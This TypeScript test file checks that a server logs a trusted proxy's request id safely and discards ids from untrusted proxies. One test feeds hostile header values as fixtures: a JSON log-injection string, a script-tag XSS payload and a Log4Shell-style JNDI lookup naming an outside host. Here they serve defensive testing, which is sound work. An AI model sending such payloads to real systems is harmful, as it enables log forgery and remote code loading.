import assert from 'node:assert/strict';
import { test } from 'node:test';

import { readLine } from '#testing/logged.ts';
import { until } from '#testing/purchases.ts';
import { startTestServer } from '#testing/test-server.ts';
import type { TestServer } from '#testing/test-server.ts';

const ofProxy = '4f1c9ab26d0e83754f1c9ab26d0e8375';

/** Calls as a proxy that gives the request this id: the last line of the log about it, and our own id. */
async function callAs(server: TestServer, proxyReqId: string) {
  const answer = await server.guest.raw('/api/packages', {
    headers: { 'x-forwarded-for': '203.0.113.7', 'x-request-id': proxyReqId },
  });
  const id = answer.headers.get('x-request-id') ?? '';
  const ofRequest = () => server.log.map(readLine).filter(({ reqId }) => reqId === id);
  await until(() => ofRequest().some(({ msg }) => msg === 'request completed'));
  return { id, line: ofRequest().at(-1) };
}

test('the id that a trusted proxy gives a request is logged beside ours, which stays our own', async (t) => {
  const server = await startTestServer({ env: { TRUSTED_PROXIES: '127.0.0.1' } });
  t.after(() => server.close());
  const { id, line } = await callAs(server, ofProxy);
  assert.equal(line?.['proxyReqId'], ofProxy);
  assert.notEqual(id, ofProxy);
});

test('the id of a proxy that the settings do not name is not logged', async (t) => {
  const server = await startTestServer({ env: { TRUSTED_PROXIES: '10.0.0.7' } });
  t.after(() => server.close());
  await callAs(server, ofProxy);
  assert.ok(!server.log.join('\n').includes(ofProxy));
});

test('what a caller writes into the header of a trusted proxy is logged only where it can be an id', async (t) => {
  const server = await startTestServer({ env: { TRUSTED_PROXIES: '127.0.0.1' } });
  t.after(() => server.close());
  for (const evil of [
    'x","level":60,"msg":"everything is lost',
    '<script>alert(1)</script>',
    '${jndi:ldap://example.com/a}',
    'a'.repeat(65),
    'two, ids',
  ]) {
    const { line } = await callAs(server, evil);
    assert.ok(line && !('proxyReqId' in line), evil);
    assert.ok(!server.log.join('\n').includes(evil), evil);
  }
  const { line } = await callAs(server, '298211001');
  assert.equal(line?.['proxyReqId'], '***', 'a number is masked here as everywhere');
});
